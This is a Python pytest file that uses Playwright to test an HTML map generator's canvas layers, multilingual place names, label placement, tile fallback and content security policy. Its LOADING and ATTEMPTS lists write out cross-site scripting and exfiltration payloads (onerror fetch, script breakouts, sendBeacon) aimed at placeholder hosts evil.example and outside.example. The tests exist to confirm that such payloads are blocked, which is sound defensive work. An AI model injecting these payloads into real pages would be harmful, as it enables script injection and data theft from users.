"""The ground of the map in a browser: drawn from typed arrays, named, beneath the tiles, and asking for nothing."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
import shapely
from playwright.sync_api import BrowserContext, Page, Route
from test_html import CRS, HOSTILE, assessment, ink

from lifecircle.model import LABELS, Assessment
from lifecircle.outputs.html import write
from lifecircle.outputs.shapes import Encoder

pytestmark = pytest.mark.browser

WATER, GREEN = "#c6dce6", "#dbe7d0"
LOADING = [
    '<img src="https://evil.example/a.png" onerror="fetch(\'https://evil.example/b\')">',
    "</script><script src=https://evil.example/c.js></script>",
    "<style>@import url(https://evil.example/d.css)</style>",
    "{{ ''.__class__ }} ${fetch('https://evil.example/e')}",
]
Row = tuple[str, str, str, str, float, shapely.Geometry]


def named(*rows: Row) -> Assessment:
    """The hand-made assessment with some names on its map."""
    result = assessment()
    labels = gpd.GeoDataFrame([dict(zip(LABELS, row, strict=True)) for row in rows], geometry="geometry", crs=CRS)
    return replace(result, site=replace(result.site, labels=labels))


def opened(context: BrowserContext, path: Path, zoom: float | None = None) -> Page:
    page = context.new_page()
    page.goto(path.as_uri())
    if zoom is not None:
        page.evaluate(
            "(zoom) => { map_lifecircle.setView(map_lifecircle.getCenter(), zoom, { animate: false }); }", zoom
        )
    return page


def written(page: Page) -> list[str]:
    """All that is written on the sheet of names when it is drawn anew, glyph by glyph or as a whole."""
    return page.evaluate(
        """() => {
            const said = [];
            const { fillText } = CanvasRenderingContext2D.prototype;
            CanvasRenderingContext2D.prototype.fillText = function (text, ...rest) {
              if (this.canvas.closest(".leaflet-names-pane")) said.push(text);
              return fillText.call(this, text, ...rest);
            };
            map_lifecircle.fire("moveend");
            CanvasRenderingContext2D.prototype.fillText = fillText;
            return said;
        }"""
    )


def test_waters_and_greens_are_drawn_with_their_holes(context: BrowserContext, tmp_path: Path) -> None:
    """The pond is 150 by 200 m less 50 by 50 m, the green 200 by 200 m: 27,500 and 40,000 m2, nothing on either."""
    write(assessment(), tmp_path / "map.html")
    page = opened(context, tmp_path / "map.html", 16)
    found = ink(page, "land")
    assert found[WATER] / found[GREEN] == pytest.approx(27_500 / 40_000, rel=0.05)


def test_names_are_in_the_language_of_the_page(context: BrowserContext, tmp_path: Path) -> None:
    rows = [
        ("park", "Puisto", "公园", "Park", 200.0, shapely.Point(-200, -200)),
        ("station", "Asema", "", "", 0.0, shapely.Point(200, 250)),
        ("major", "Katu", "街", "", 0.0, shapely.LineString([(-400, 300), (400, 300)])),
    ]
    write(named(*rows), tmp_path / "map.html", lang="zh")
    page = opened(context, tmp_path / "map.html", 16)
    assert sorted(set(written(page))) == ["Asema", "公园", "街"]
    page.locator("button[data-lang=en]").click()
    assert sorted(set(written(page))) == ["Asema", "Katu", "Park"]


def test_names_do_not_meet_and_the_greater_goes_first(context: BrowserContext, tmp_path: Path) -> None:
    at = shapely.Point(0, 250)
    rows: list[Row] = [
        ("estate", "小园", "", "", 150.0, at),
        ("estate", "大园", "", "", 300.0, at),
        ("estate", "远园", "", "", 150.0, shapely.Point(0, -250)),
        ("estate", "点", "", "", 3.0, shapely.Point(250, 250)),
    ]
    write(named(*rows), tmp_path / "map.html")
    assert sorted(written(opened(context, tmp_path / "map.html", 16))) == ["大园", "远园"]


def test_a_name_that_is_longer_than_its_street_is_left_out(context: BrowserContext, tmp_path: Path) -> None:
    """And round a sharp corner none is bent."""
    corner = shapely.LineString([(-40, -300), (0, -300), (-40, -296)])
    rows: list[Row] = [
        ("major", "Avenida de las Petrolíferas", "", "", 0.0, shapely.LineString([(-20, 300), (20, 300)])),
        ("major", "Calle Sucre", "", "", 0.0, corner),
    ]
    write(named(*rows), tmp_path / "map.html")
    assert written(opened(context, tmp_path / "map.html", 16)) == []


@pytest.mark.parametrize("name", [*LOADING, HOSTILE, "园" * 5000])
def test_no_name_makes_the_page_ask_for_anything(context: BrowserContext, tmp_path: Path, name: str) -> None:
    """Names on the map, of the site, of places and of facilities: one request, for the page itself."""
    result = named(("park", name, name, name, 300.0, shapely.Point(0, 0)))
    site = result.site
    frames = {key: getattr(site, key).assign(name=name) for key in ("demand", "facilities", "planned")}
    write(replace(result, site=replace(site, name=name, attribution=(name,), **frames)), tmp_path / "map.html")
    asked: list[str] = []
    said: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda message: said.append(message.text))
    page = opened(context, tmp_path / "map.html", 17)
    page.mouse.click(800, 400)
    page.wait_for_timeout(300)
    assert [url for url in asked if not url.startswith("data:")] == [(tmp_path / "map.html").as_uri()]
    assert said == []


ATTEMPTS: dict[str, Callable[[str], str]] = {
    "image": lambda url: f"new Image().src = '{url}'",
    "fetch": lambda url: f"fetch('{url}').catch(() => 0)",
    "script": lambda url: f"document.head.append(Object.assign(document.createElement('script'), {{ src: '{url}' }}))",
    "frame": lambda url: f"document.body.append(Object.assign(document.createElement('iframe'), {{ src: '{url}' }}))",
    "style": lambda url: f"document.body.style.background = 'url({url})'",
    "beacon": lambda url: f"navigator.sendBeacon('{url}')",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_stops_what_would_load(context: BrowserContext, tmp_path: Path, attempt: str) -> None:
    """Even a script that got in would reach nobody."""
    context.set_offline(False)
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="")

    context.route("http://outside.example/**", answer)
    write(assessment(), tmp_path / "map.html")
    page = opened(context, tmp_path / "map.html")
    page.evaluate(f"() => {{ {ATTEMPTS[attempt]('http://outside.example/x')}; }}")
    page.wait_for_timeout(300)
    assert reached == []


@pytest.mark.parametrize("served", [True, False])
def test_the_own_ground_stays_where_tiles_do_not_load(context: BrowserContext, tmp_path: Path, served: bool) -> None:
    """The ground lies beneath the tiles; its names give way to those on tiles once one has come."""
    dot = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
    dot += "\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

    def answer(route: Route) -> None:
        if served:
            route.fulfill(body=dot.encode("latin-1"), content_type="image/gif")
        else:
            route.abort()

    context.set_offline(False)
    context.route("https://tiles.example/**", answer)
    row: Row = ("park", "公园", "", "", 300.0, shapely.Point(0, 0))
    write(named(row), tmp_path / "map.html", tiles="https://tiles.example/{z}/{x}/{y}.png")
    page = opened(context, tmp_path / "map.html", 16)
    page.wait_for_timeout(500)
    assert (page.locator(".leaflet-names-pane canvas").count() == 0) == served
    assert ink(page, "land")[GREEN] > 1000
    order = "(pane) => Number(getComputedStyle(document.querySelector(`.leaflet-${pane}-pane`)).zIndex)"
    land, tile, frame = (page.evaluate(order, pane) for pane in ("land", "tile", "frame"))
    assert land < tile < frame
    assert "tiles.example" in page.locator(".credit").inner_text()


@pytest.mark.parametrize("ratio", [1, 1.5, 3])
def test_sheets_are_drawn_in_the_pixels_of_the_screen(context: BrowserContext, tmp_path: Path, ratio: float) -> None:
    write(assessment(), tmp_path / "map.html")
    browser = context.browser
    assert browser is not None
    with browser.new_context(device_scale_factor=ratio, offline=True) as sharp:
        page = opened(sharp, tmp_path / "map.html")
        size = page.locator(".leaflet-land-pane canvas").evaluate("(it) => [it.width, parseFloat(it.style.width)]")
    assert size[0] == pytest.approx(size[1] * ratio, abs=1)


def test_what_is_picked_is_the_smallest_there_and_never_a_hole(context: BrowserContext, tmp_path: Path) -> None:
    """A yard with a hole, a hut in the yard, a point beside it that is 20 m across at zoom 16, 2.04 m a pixel."""
    yard = shapely.box(0, 0, 100, 100).difference(shapely.box(40, 40, 60, 60))
    code = Encoder(CRS).geometries(np.array([yard, shapely.box(10, 10, 20, 20), shapely.Point(150, 50)]), 7)
    spots = shapely.points([(80, 80), (50, 50), (15, 15), (145, 50), (115, 50), (-5, 50)])
    latlng = [[point.y, point.x] for point in gpd.GeoSeries(spots, crs=CRS).to_crs(4326)]
    write(assessment(), tmp_path / "map.html")
    picked = opened(context, tmp_path / "map.html").evaluate(
        """([code, spots]) => {
            const origin = originOf({ bounds: [spots[0], spots[1]] });
            const shapes = new Shapes(code, origin);
            return spots.map((spot) => {
              const { x, y } = unitsAt(spot, origin);
              return shapes.pick({ scale: 2 ** (16 - UNIT_ZOOM) }, x, y, () => 10);
            });
        }""",
        [code, latlng],
    )
    assert picked == [0, -1, 1, 2, -1, -1]


def test_a_dragged_map_is_drawn_before_it_is_let_go(context: BrowserContext, tmp_path: Path) -> None:
    write(assessment(), tmp_path / "map.html")
    page = opened(context, tmp_path / "map.html", 16)
    before = np.array(page.evaluate(CORNER))
    page.mouse.move(900, 300)
    page.mouse.down()
    page.mouse.move(500, 300, steps=8)
    page.wait_for_timeout(100)
    during = np.array(page.evaluate(CORNER))
    page.mouse.up()
    assert 200 < during[0] - before[0] <= 400


CORNER = """() => {
    const { x, y } = L.DomUtil.getPosition(document.querySelector(".leaflet-land-pane canvas"));
    return [x, y];
}"""
